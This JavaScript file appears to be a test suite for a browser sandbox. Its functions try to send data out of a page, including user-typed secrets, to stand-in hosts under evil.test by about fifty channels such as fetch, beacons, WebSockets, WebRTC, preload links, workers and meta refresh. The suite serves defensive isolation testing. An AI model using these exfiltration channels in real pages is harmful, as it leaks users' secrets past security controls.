function useOwnHost() {
    const own = (name) => "/own/" + name;
    fetch(own("fetch")).catch(() => {});
    new Image().src = own("image");
    navigator.sendBeacon(own("beacon"), "x");
    new EventSource(own("events"));
    const style = document.createElement("style");
    style.textContent = "body { background: url(" + own("style") + ") }";
    document.head.append(style);
    fetch("https://staging.pay.walletconnect.com/own/service", { mode: "no-cors" }).catch(() => {});
    document.body.insertAdjacentHTML("beforeend", "<iframe src=/own/frame></iframe>");
    setTimeout(() => done("said"), 500);
}

function lookForTraces() {
    const old = [document.cookie, localStorage.x ?? "", sessionStorage.x ?? "", document.referrer, history.length];
    document.cookie = "x=1; max-age=9999; secure";
    localStorage.x = sessionStorage.x = "1";
    (async () => {
        const names = await (indexedDB.databases?.() ?? []);
        const cached = await (window.caches?.keys() ?? []);
        indexedDB.open("x");
        try { await (await caches.open("x")).put("/x", new Response("x")); } catch {}
        done([...old, names.length, cached.length]);
    })();
}

function spreadText({ typed }) {
    document.querySelector("input").value = typed;
    document.cookie = "typed=" + typed;
    localStorage.typed = typed;
    history.pushState({ typed }, "", "?typed=" + typed);
    document.title = typed;
    console.log(typed);
    navigator.clipboard?.writeText(typed).catch(() => {});
    try { new Worker("data:text/javascript," + typed); } catch {}
    new Image().src = "https://evil.test/" + typed;
    window.open("https://evil.test/" + typed);
    location.href = "https://evil.test/?" + typed;
    setTimeout(() => { location.href = "wc:" + typed; }, 50);
    setTimeout(() => { fetch("/keep", { method: "POST", body: typed }); }, 100);
    setTimeout(() => {
        complete({ type: "IC_SECRET", typed });
        complete({ type: "IC_ERROR", error: typed });
        done("said");
    }, 300);
}

/** Uses each way by which something leaves a page, to a name of its own below `evil.test`; says how many there are. */
async function leakByAllWays() {
    const leak = (name) => "https://" + name + ".evil.test/x";
    const add = (tag, change, place = document.body) => {
        const element = document.createElement(tag);
        change(element);
        place.append(element);
        return element;
    };
    const head = (rel, name, more = () => {}) =>
        add("link", (link) => { link.rel = rel; link.href = leak(name); more(link); }, document.head);
    const ways = {
        fetch: () => { return fetch(leak('fetch'), { mode: 'no-cors' }); },
        post: () => {
            return fetch(leak('post'), { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true });
        },
        xhr: () => {
            const request = new XMLHttpRequest();
            request.open('GET', leak('xhr'));
            request.send();
        },
        image: () => { new Image().src = leak('image'); },
        srcset: () => { add('img', (image) => { image.srcset = leak('srcset') + ' 2x'; }); },
        picture: () => {
            document.body.insertAdjacentHTML('beforeend', `<picture><source srcset='${leak('picture')}'><img></picture>`);
        },
        socket: () => { new WebSocket('wss://socket.evil.test/x'); },
        beacon: () => { navigator.sendBeacon(leak('beacon'), 'x'); },
        events: () => { new EventSource(leak('events')); },
        prefetch: () => { head('prefetch', 'prefetch'); },
        preload: () => { head('preload', 'preload', (link) => { link.as = 'image'; }); },
        modulepreload: () => { head('modulepreload', 'modulepreload'); },
        preconnect: () => { head('preconnect', 'preconnect'); },
        dns: () => { head('dns-prefetch', 'dns'); },
        prerender: () => { head('prerender', 'prerender'); },
        stylesheet: () => { head('stylesheet', 'stylesheet'); },
        icon: () => { head('icon', 'icon'); },
        manifest: () => { head('manifest', 'manifest'); },
        import: () => { return import(leak('import')); },
        script: () => { add('script', (script) => { script.src = leak('script'); }); },
        style: () => {
            add('style', (style) => { style.textContent = `body { background: url(${leak('style')}) }`; });
        },
        cssimport: () => {
            add('style', (style) => { style.textContent = `@import url(${leak('cssimport')})`; });
        },
        font: () => {
            add('style', (style) => { style.textContent = `@font-face { font-family: x; src: url(${leak('font')}) } body { font-family: x }`; });
        },
        fontface: () => { return new FontFace('y', `url(${leak('fontface')})`).load(); },
        video: () => {
            add('video', (video) => { video.src = leak('video'); video.poster = leak('poster'); video.load(); });
        },
        audio: () => { new Audio(leak('audio')).load(); },
        track: () => {
            document.body.insertAdjacentHTML('beforeend', `<video><track default src='${leak('track')}'></video>`);
        },
        frame: () => { add('iframe', (frame) => { frame.src = leak('frame'); }); },
        object: () => { add('object', (object) => { object.data = leak('object'); }); },
        embed: () => { add('embed', (embed) => { embed.src = leak('embed'); }); },
        inputimage: () => {
            add('input', (input) => { input.type = 'image'; input.src = leak('inputimage'); });
        },
        svg: () => {
            document.body.insertAdjacentHTML('beforeend', `<svg><image href='${leak('svg')}'/><use href='${leak('use')}#x'/></svg>`);
        },
        ping: () => {
            const link = add('a', (link) => { link.href = '#x'; link.ping = leak('ping'); });
            link.click();
        },
        framefetch: () => {
            add('iframe', (frame) => { frame.srcdoc = `<script>fetch('${leak('srcdoc')}', { mode: 'no-cors' }); new Image().src = '${leak('srcdocimage')}'<\/script>`; });
        },
        blankframe: () => {
            const frame = add('iframe', () => {});
            new frame.contentWindow.Image().src = leak('blankframe');
        },
        blankfetch: () => {
            const frame = add('iframe', () => {});
            return frame.contentWindow.fetch(leak('blankfetch'), { mode: 'no-cors' });
        },
        worker: () => {
            new Worker(URL.createObjectURL(new Blob([`fetch('${leak('worker')}', { mode: 'no-cors' })`])));
        },
        ownworker: () => { new Worker('/worker.js'); },
        service: () => { return navigator.serviceWorker?.register('/worker.js'); },
        rtc: () => {
            const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:rtc.evil.test' }] });
            peer.createDataChannel('x');
            peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        },
        meta: () => {
            document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${leak('meta')}'>`);
        },
        base: () => {
            add('base', (base) => { base.href = leak('base'); }, document.head);
            new Image().src = 'relative';
        },
        report: () => { new ReportingObserver(() => {}).observe(); },
        worklet: () => { return CSS.paintWorklet?.addModule(leak('worklet')); },
        audioworklet: () => { return new AudioContext().audioWorklet?.addModule(leak('audioworklet')); },
        xslt: () => {
            const xml = new DOMParser().parseFromString(`<?xml-stylesheet type='text/xsl' href='${leak('xslt')}'?><x/>`, 'text/xml');
            return xml;
        },
        cursor: () => { document.body.style.cursor = `url(${leak('cursor')}), auto`; },
        share: () => { return navigator.share?.({ url: leak('share') }); },
        credentials: () => { location.href = 'https://x:y@credentials.evil.test/'; },
    };
    for (const [name, way] of Object.entries(ways)) {
        try { await way(); } catch {}
        await new Promise((resolve) => setTimeout(resolve, 20));
    }
    setTimeout(() => done(String(Object.keys(ways).length)), 1500);
}
